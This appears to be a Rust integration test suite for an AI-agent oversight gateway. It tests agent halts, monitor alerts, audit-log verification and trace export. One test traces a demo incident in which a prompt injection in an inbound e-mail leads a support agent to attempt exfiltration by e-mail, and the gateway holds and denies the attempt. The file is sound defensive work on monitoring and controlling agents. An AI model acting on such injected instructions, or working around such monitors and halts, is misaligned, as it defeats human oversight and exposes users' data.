            "drill", "halt", "dev-bot", "--server", &a.base, "--server", &base_b, "--repeat", "5",
            "--within", "1s", "--json",
        ])
        .env("WARDEN_TOKEN", &a.admin)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["ok"], true);
    let servers = report["result"]["servers"].as_array().unwrap();
    assert_eq!(servers.len(), 2);
    for s in servers {
        assert_eq!(s["drills"], 5, "{s}");
        assert!(s["p99_ms"].as_f64().unwrap() < 1000.0, "{s}");
    }
    let drills = a.audit("event=drill.completed").await;
    assert_eq!(drills.len(), 1);
    assert_eq!(drills[0]["outcome"], "success");
    assert_eq!(drills[0]["agent"], "dev-bot");
    assert_eq!(drills[0]["seq"], report["recorded"]);
    // dev-bot is active again on both.
    for base in [&a.base, &base_b] {
        let v: Value = a
            .http
            .get(format!("{base}/v1/admin/agents"))
            .bearer_auth(&a.admin)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert!(
            v.as_array()
                .unwrap()
                .iter()
                .all(|x| x["status"] == "active")
        );
    }

    // One monitor for both: the halted agent's attempts above raise one alert, counted once.
    let (st, _) = a
        .request(
            &a.admin,
            "POST",
            "/v1/admin/agents/sec-bot/halt",
            Some(json!({"reason": "one monitor"})),
        )
        .await;
    assert_eq!(st, 200);
    let sec = a.token("agent", "sec-bot").await;
    crate::harness::token_known_at(&a.http, &base_b, &sec).await;
    for base in [&a.base, &base_b] {
        let r = a
            .http
            .post(format!("{base}/v1/actions"))
            .bearer_auth(&sec)
            .json(&json!({"tool": "security.list_alerts", "arguments": {}, "session": "x"}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 403);
    }
    let mut found = Vec::new();
    eventually("one alert for both refusals", async || {
        found = alerts(&a, "state=all&agent=sec-bot").await;
        found.len() == 1 && found[0]["count"] == 2
    })
    .await;
    assert_eq!(found[0]["kind"], "halted_agent_activity");
    assert_eq!(found[0]["evidence"].as_array().unwrap().len(), 2);
    let _ = child_b.kill();
    let _ = child_b.wait();
    crate::harness::drop_postgres_schema(&pg);
}

/// `warden demo --keep` in `dir`: its console URL (without `/console`) and its printed lines.
fn demo_kept(dir: &Path) -> (std::process::Child, String, Vec<String>) {
    let mut child = Command::new(BIN)
        .args(["demo", "--keep", "--dir"])
        .arg(dir)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut lines = Vec::new();
        for line in BufReader::new(stdout).lines() {
            let line = line.unwrap();
            let done = line.starts_with("serving until Ctrl-C");
            lines.push(line);
            if done {
                let _ = tx.send(lines.clone());
            }
        }
        let _ = tx.send(lines);
    });
    let lines = rx.recv_timeout(Duration::from_secs(240)).unwrap();
    let url = lines
        .iter()
        .find_map(|l| l.strip_prefix("The web console: "))
        .unwrap_or_else(|| panic!("{}", lines.join("\n")))
        .trim_end_matches("/console")
        .to_owned();
    (child, url, lines)
}

fn find_file(dir: &Path, name: &str) -> Option<PathBuf> {
    for e in std::fs::read_dir(dir).ok()?.flatten() {
        let p = e.path();
        if p.is_dir() {
            if let Some(f) = find_file(&p, name) {
                return Some(f);
            }
        } else if p.file_name().is_some_and(|n| n == name) {
            return Some(p);
        }
    }
    None
}

/// The demo's injection scenario as an incident: the timeline lists the inbound e-mail, the
/// held exfiltration attempt and its denial, every record proven against the signed checkpoint
/// with the key kept outside the server; the report is a post-mortem skeleton; closing is
/// recorded once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_demo_injection_as_an_incident_timeline_proven_against_a_checkpoint() {
    warden_execute::install_crypto_provider();
    let dir = tempfile::tempdir().unwrap();
    let (mut child, url, lines) = demo_kept(dir.path());
    let admin = lines
        .iter()
        .find(|l| l.trim_start().starts_with("admin"))
        .and_then(|l| l.split_whitespace().last())
        .unwrap()
        .to_owned();
    let key = find_file(dir.path(), "audit-signing.key.pub").expect("the verifier key");
    let run = |args: &[&str]| {
        let out = Command::new(BIN)
            .args(args)
            .env("WARDEN_ADDR", &url)
            .env("WARDEN_TOKEN", &admin)
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (code, out, err) = run(&[
        "incident",
        "open",
        "--agent",
        "support-bot",
        "--since",
        "1h",
        "--reason",
        "prompt injection from the support inbox",
    ]);
    assert_eq!(code, 0, "{err}");
    let id = out.trim().to_owned();
    assert!(id.starts_with("inc_"), "{out}");
    let (code, _, err) = run(&[
        "incident", "open", "--agent", "nobody", "--since", "1h", "--reason", "x",
    ]);
    assert_eq!(code, 4, "{err}");
    let (code, _, err) = run(&[
        "incident",
        "open",
        "--agent",
        "support-bot",
        "--since",
        "yesterday",
        "--reason",
        "x",
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("--since"), "{err}");

    let (code, out, err) = run(&[
        "incident",
        "timeline",
        &id,
        "--key",
        key.to_str().unwrap(),
        "--json",
    ]);
    assert_eq!(code, 0, "{out}{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    let entries = v["timeline"]["entries"].as_array().unwrap();
    assert_eq!(v["verified"].as_u64().unwrap() as usize, entries.len());
    assert_eq!(v["problems"], json!([]));
    assert_eq!(v["key"], "your key");
    let records: Vec<&Value> = entries.iter().map(|e| &e["record"]).collect();
    assert!(
        records
            .windows(2)
            .all(|w| w[0]["seq"].as_u64() < w[1]["seq"].as_u64()),
        "in log order"
    );
    // The inbound e-mail, with the injection found in it.
    assert!(
        records.iter().any(|r| r["event"] == "action.executed"
            && r["tool"] == "email.read_inbox"
            && r["findings"].to_string().contains("injection.")),
        "{records:#?}"
    );
    // The exfiltration attempt, held, and its denial.
    let held = records
        .iter()
        .find(|r| {
            r["event"] == "action.decided"
                && r["tool"] == "email.send"
                && r["outcome"] == "escalated"
        })
        .expect("the held attempt");
    assert!(records.iter().any(|r| r["event"] == "approval.decided"
        && r["outcome"] == "denied"
        && r["action_id"] == held["action_id"]));
    // The incident's own record and the monitor's alerts about it are in it.
    assert!(records.iter().any(|r| r["event"] == "incident.opened"));
    assert!(
        records
            .iter()
            .any(|r| r["event"] == "alert.raised" && r["output"]["kind"] == "exfiltration_attempt")
    );
    // Nothing of another agent.
    assert!(
        records
            .iter()
            .all(|r| r["agent"].is_null() || r["agent"] == "support-bot")
    );

    let (code, out, err) = run(&["incident", "report", &id]);
    assert_eq!(code, 0, "{err}");
    for want in [
        &format!("# Incident {id} — agent `support-bot`"),
        "## Untrusted content the agent read",
        "`email.read_inbox` — injection found",
        "**Personal data was involved**",
        "72 hours",
        "## Containment steps taken",
        "## Timeline",
        "## Root cause",
    ] {
        assert!(out.contains(want), "missing {want:?} in\n{out}");
    }

    let (code, _, err) = run(&[
        "incident",
        "close",
        &id,
        "--notes",
        "inbound mail filtered; agent retrained",
    ]);
    assert_eq!(code, 0, "{err}");
    let (code, _, _) = run(&["incident", "close", &id, "--notes", "again"]);
    assert_eq!(code, 5);
    let (code, out, _) = run(&["incident", "list", "--json"]);
    assert_eq!(code, 0);
    let list: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(list["incidents"][0]["state"], "closed");
    assert_eq!(
        list["incidents"][0]["closed"]["notes"],
        "inbound mail filtered; agent retrained"
    );

    // The console's incident page shows the report.
    let mut b = crate::console::Browser::new(&url);
    assert_eq!(b.sign_in(&admin).await.status, 303);
    let list = b.get("/console/incidents").await;
    assert!(list.body.contains(&id), "{}", list.body);
    let page = b.get(&format!("/console/incidents/{id}")).await;
    assert_eq!(page.status, 200);
    assert!(
        page.body.contains("Untrusted content the agent read"),
        "{}",
        page.body
    );

    let pid = child.id().to_string();
    let _ = Command::new("kill").args(["-INT", &pid]).status();
    let _ = child.wait();
}

/// Trace export to an OTLP/HTTP receiver that decodes the protobuf with the OpenTelemetry
/// project's own definitions: one span per action, MCP call and LLM call, with the GenAI and MCP
/// semantic conventions; no argument or prompt in any span; an unreachable collector costs the
/// agents nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn spans_reach_an_otlp_receiver_with_the_genai_and_mcp_conventions() {
    let dir = tempfile::tempdir().unwrap();
    let spans = dir.path().join("spans.jsonl");
    let (_otlp, port) = python(
        "monitor",
        "otlp_receiver.py",
        &[spans.to_str().unwrap()],
        &[],
    );
    let s = Server::start_with(move |t| {
        t + &format!(
            "\n[telemetry]\notlp_endpoint = \"http://127.0.0.1:{port}/v1/traces\"\nservice_name = \"warden-test\"\n"
        )
    })
    .await;
    let bot = s.token("agent", "support-bot").await;
    // An action, allowed, in the agent's own trace (W3C trace context); one refused.
    let r = s
        .http
        .post(format!("{}/v1/actions", s.base))
        .bearer_auth(&bot)
        .header("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01")
        .json(&json!({"tool": "crm.get_customer", "arguments": {"customer_id": "C1182"}, "session": "t"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let (st, _) = s
        .act(
            &bot,
            "payments.send",
            json!({"iban": "NL91ABNA0417164300", "amount": 5, "reference": "x"}),
            "t",
        )
        .await;
    assert_eq!(st, 403);
    // An MCP tool call.
    let init = s
        .mcp_post(
            &bot,
            None,
            json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "otlp-test", "version": "1"}}}),
        )
        .await
        .unwrap();
    let sid = init.headers()["mcp-session-id"]
        .to_str()
        .unwrap()
        .to_owned();
    let _ = s
        .mcp_post(
            &bot,
            Some(&sid),
            json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
        )
        .await
        .unwrap();
    let call = s
        .mcp_post(
            &bot,
            Some(&sid),
            json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "kb.search", "arguments": {"query": "refund policy"}}}),
        )
        .await
        .unwrap();
    assert_eq!(call.status().as_u16(), 200);
    let _ = call.text().await;
    // An LLM call, with a personal value in the prompt that must not reach a span.
    let r = s
        .http
        .post(format!("{}/v1/chat/completions", s.base))
        .bearer_auth(&bot)
        .json(&json!({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Write to ada@example.net about her refund"}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200, "{}", r.text().await.unwrap());

    let got = until(&spans, "four spans", |l| l.len() >= 4).await;
    for sp in &got {
        assert_eq!(sp["resource"]["service.name"], "warden-test");
        assert_eq!(sp["scope"], "warden");
        assert_eq!(sp["trace_id"].as_str().unwrap().len(), 32);
        assert_eq!(sp["span_id"].as_str().unwrap().len(), 16);
        assert_eq!(sp["kind"], 2, "server spans");
        assert!(sp["end"].as_u64().unwrap() >= sp["start"].as_u64().unwrap());
        assert_eq!(sp["attributes"]["warden.agent"], "support-bot");
        let text = sp.to_string();
        for secret in [
            "ada@example.net",
            "NL91ABNA0417164300",
            "C1182",
            "refund policy",
        ] {
            assert!(!text.contains(secret), "{secret} in {sp}");
        }
    }
    let find = |name: &str| {
        got.iter()
            .find(|sp| sp["name"] == name)
            .unwrap_or_else(|| panic!("no span {name}: {got:#?}"))
    };
    let read = find("execute_tool crm.get_customer");
    assert_eq!(
        read["trace_id"], "4bf92f3577b34da6a3ce929d0e0e4736",
        "joins the caller's trace"
    );
    assert_eq!(read["parent_span_id"], "00f067aa0ba902b7");
    assert_eq!(read["attributes"]["gen_ai.operation.name"], "execute_tool");
    assert_eq!(read["attributes"]["gen_ai.tool.name"], "crm.get_customer");
    assert_eq!(read["attributes"]["warden.outcome"], "executed");
    assert_eq!(read["status"]["code"], 0);
    let denied = find("execute_tool payments.send");
    assert_ne!(denied["trace_id"], read["trace_id"], "a trace of its own");
    assert_eq!(denied["parent_span_id"], "");
    assert_eq!(denied["status"]["code"], 2, "an error");
    assert_eq!(denied["status"]["message"], "denied");
    assert_eq!(denied["attributes"]["warden.code"], "denied");
    let mcp = find("execute_tool kb.search");
    assert_eq!(mcp["attributes"]["mcp.method.name"], "tools/call");
    assert_eq!(mcp["attributes"]["warden.surface"], "mcp");
    let chat = find("chat gpt-4o-mini");
    assert_eq!(chat["attributes"]["gen_ai.operation.name"], "chat");
    assert_eq!(chat["attributes"]["gen_ai.request.model"], "gpt-4o-mini");
    assert_eq!(chat["attributes"]["gen_ai.provider.name"], "openai");
    assert!(
        chat["attributes"]["gen_ai.usage.input_tokens"]
            .as_i64()
            .unwrap()
            > 0
    );

    // The metrics count what was exported.
    let text = s
        .http
        .get(format!("{}/metrics", s.base))
        .bearer_auth(&s.admin)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        text.lines().any(
            |l| l.starts_with("warden_otlp_spans_total{result=\"exported\"}") && !l.ends_with(" 0")
        ),
        "{text}"
    );

    drop(s);

    // A collector that is down: the agents do not notice; the spans are counted as dropped.
    let free = crate::harness::free_addr();
    let s = Server::start_with(move |t| {
        t + &format!("\n[telemetry]\notlp_endpoint = \"http://{free}/v1/traces\"\n")
    })
    .await;
    let bot = s.token("agent", "support-bot").await;
    let t = Instant::now();
    for _ in 0..5 {
        let (st, _) = s
            .act(
                &bot,
                "crm.get_customer",
                json!({"customer_id": "C1182"}),
                "t",
            )
            .await;
        assert_eq!(st, 200);
    }
    assert!(t.elapsed() < Duration::from_secs(5));
    eventually("dropped spans counted", async || {
        let text = s
            .http
            .get(format!("{}/metrics", s.base))
            .bearer_auth(&s.admin)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        text.lines()
            .any(|l| l == "warden_otlp_spans_total{result=\"dropped\"} 5")
    })
    .await;
}

/// `warden halt --all` stops every agent and ends their MCP sessions (a resumed agent's client
/// must initialise again); a halted agent's token still trying raises an alert, and an alert
/// route whose receiver is down is retried and its failure recorded, naming the alert.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn halt_all_ends_mcp_sessions_and_a_failed_alert_delivery_is_recorded() {
    let dead = crate::harness::free_addr();
    let s = Server::start_with_env(
        move |t| {
            t + &monitor_quick(
                r#"
[[monitor.route]]
kinds = ["halted_agent_activity"]
channels = ["pager"]
"#,
            ) + &format!(
                r#"
[notify]
attempts = 2
retry_base = "100ms"

[notify.channels.pager]
type = "webhook"
url = "http://{dead}/hook"
secret = "{{{{env:HOOK_SECRET}}}}"
"#
            )
        },
        &[("HOOK_SECRET", HOOK_SECRET)],
    )
    .await;
    let bot = s.token("agent", "support-bot").await;
    let init = s
        .mcp_post(
            &bot,
            None,
            json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "halt-test", "version": "1"}}}),
        )
        .await
        .unwrap();
    let sid = init.headers()["mcp-session-id"]
        .to_str()
        .unwrap()
        .to_owned();
    let list = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/list"});
    let r = s.mcp_post(&bot, Some(&sid), list.clone()).await.unwrap();
    assert_eq!(r.status().as_u16(), 200);

    // An LLM call in flight (the provider takes 30 s).
    let llm = in_background(
        &s.http,
        format!("{}/v1/chat/completions", s.base),
        &bot,
        json!({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "[[slow]] summarise"}]}),
    );
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert!(!llm.is_finished(), "{:?}", llm.await);

    let (code, out, err) = cli(&s, &["halt", "--all", "--reason", "incident drill"], None);
    assert_eq!(code, 0, "{err}");
    for agent in [
        "dev-bot",
        "finance-bot",
        "marketing-bot",
        "sec-bot",
        "support-bot",
    ] {
        assert!(out.contains(&format!("agent `{agent}` halted")), "{out}");
    }
    let (code, out, _) = cli(&s, &["halt", "--all", "--reason", "again"], None);
    assert_eq!(code, 0);
    assert!(out.contains("every agent was already halted"), "{out}");
    let (code, _, err) = cli(&s, &["halt", "--reason", "no agent named"], None);
    assert_eq!(code, 2, "an agent or --all: {err}");
    // The LLM call was cancelled, not left to run, and recorded so.
    let (st, body, took) = llm.await.unwrap();
    assert!(took < Duration::from_secs(20), "{took:?}");
    assert_eq!(st, 409, "{body}");
    let calls = s.audit("event=llm.call&agent=support-bot").await;
    assert!(
        calls.iter().any(|c| c["outcome"] == "cancelled"
            && c["description"].as_str().unwrap().contains("halted")),
        "{calls:#?}"
    );

    // Halted: refused; and the token still trying is an alert, routed to a receiver that is
    // down: retried, then recorded as failed.
    let (st, v) = s
        .act(
            &bot,
            "crm.get_customer",
            json!({"customer_id": "C1182"}),
            "h",
        )
        .await;
    assert_eq!(st, 403, "{v}");
    let alert = alert_of(&s, "halted_agent_activity").await;
    eventually("the failed delivery is recorded", async || {
        s.audit("event=notification.failed")
            .await
            .iter()
            .any(|r| r["output"]["alerts"] == json!([alert["id"]]) && r["output"]["attempts"] == 2)
    })
    .await;
    let failed = s.audit("event=notification.failed").await;
    assert!(!failed.iter().any(|r| r.to_string().contains(HOOK_SECRET)));

    // Resumed, the old MCP session is gone: the client must initialise again.
    let (code, _, err) = cli(&s, &["resume", "support-bot"], None);
    assert_eq!(code, 0, "{err}");
    let r = s.mcp_post(&bot, Some(&sid), list.clone()).await.unwrap();
    assert_eq!(r.status().as_u16(), 404, "the halt ended the session");
    let init = s
        .mcp_post(
            &bot,
            None,
            json!({"jsonrpc": "2.0", "id": 3, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "halt-test", "version": "1"}}}),
        )
        .await
        .unwrap();
    let sid = init.headers()["mcp-session-id"]
        .to_str()
        .unwrap()
        .to_owned();
    let r = s.mcp_post(&bot, Some(&sid), list).await.unwrap();
    assert_eq!(r.status().as_u16(), 200);
}

/// The baselines survive `kill -9`: the monitor saves them now and then, and on restart replays
/// the records after them, learning only — no alert raised twice, nothing learned lost.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_baselines_survive_a_kill_and_nothing_is_alerted_twice() {
    let mut s = Server::start_with(|t| t + &monitor_quick("")).await;
    let bot = s.token("agent", "marketing-bot").await;
    let mail = |to: &str| json!({"to": to, "subject": "Offer", "body": "Hello"});
    for to in [
        "a@partner.example",
        "b@partner.example",
        "c@partner.example",
    ] {
        let (st, _) = s.act(&bot, "email.send", mail(to), "k").await;
        assert!(st == 200 || st == 202);
    }
    let (st, _) = s
        .act(&bot, "email.send", mail("x@first-new.example"), "k")
        .await;
    assert!(st == 200 || st == 202);
    alert_of(&s, "new_domain").await;
    // Killed within seconds of learning: the baselines were not saved since.
    s.child.kill().unwrap();
    s.child.wait().unwrap();
    let (child, base) = crate::harness::spawn_serve(&s.config, &s.db, &s.log, &s.upstream_url);
    s.child = child;
    s.base = base;
    // Still warmed up (the action count survived): the first new domain after the restart
    // alerts at once. Known before the kill: not new; alerted before: not again.
    let (st, _) = s
        .act(&bot, "email.send", mail("z@second-new.example"), "k")
        .await;
    assert!(st == 200 || st == 202);
    for to in ["d@partner.example", "y@first-new.example"] {
        let (st, _) = s.act(&bot, "email.send", mail(to), "k").await;
        assert!(st == 200 || st == 202);
    }
    eventually("the second new domain alerts", async || {
        alerts(&s, "state=all").await.iter().any(|a| {
            a["summary"]
                .as_str()
                .unwrap()
                .contains("second-new.example")
        })
    })
    .await;
    tokio::time::sleep(Duration::from_millis(800)).await;
    let all = alerts(&s, "state=all").await;
    assert_eq!(all.len(), 2, "{all:#?}");
    assert!(all.iter().all(|a| a["count"] == 1), "{all:#?}");
    assert_eq!(s.audit("event=alert.raised").await.len(), 2);
}

/// The console's "Verify the log" on a log that grows while it is checked (agents acting,
/// checkpoints being made, the monitor appending alerts): the records it read are checked
/// against the tree at that size, and nothing is reported as tampered.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verifying_a_log_that_grows_meanwhile_reports_no_tampering() {
    let s = Server::start_with(|t| t + &monitor_quick("")).await;
    let bot = s.token("agent", "support-bot").await;
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let writer = {
        let (http, base, stop) = (s.http.clone(), s.base.clone(), stop.clone());
        let (bot, admin) = (bot.clone(), s.admin.clone());
        tokio::spawn(async move {
            let mut n = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                n += 1;
                let _ = http
                    .post(format!("{base}/v1/actions"))
                    .bearer_auth(&bot)
                    .json(&json!({"tool": "payments.send", "arguments": {"iban": "NL91ABNA0417164300", "amount": 1, "reference": "x"}, "session": "g"}))
                    .send()
                    .await;
                if n.is_multiple_of(10) {
                    let _ = http
                        .post(format!("{base}/v1/admin/audit/checkpoints"))
                        .bearer_auth(&admin)
                        .send()
                        .await;
                }
            }
            n
        })
    };
    let mut a = crate::console::Browser::new(&s.base);
    assert_eq!(a.sign_in(&s.admin).await.status, 303);
    let csrf = a.get("/console/audit").await.field("csrf");
    let origin = s.base.clone();
    for _ in 0..15 {
        let page = a
            .post("/console/audit/verify", &[("csrf", &csrf)], Some(&origin))
            .await;
        assert_eq!(page.status, 200);
        assert!(page.body.contains("The log verifies"), "{}", page.body);
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let n = writer.await.unwrap();
    assert!(n > 15, "the log grew while it was checked ({n} actions)");
}
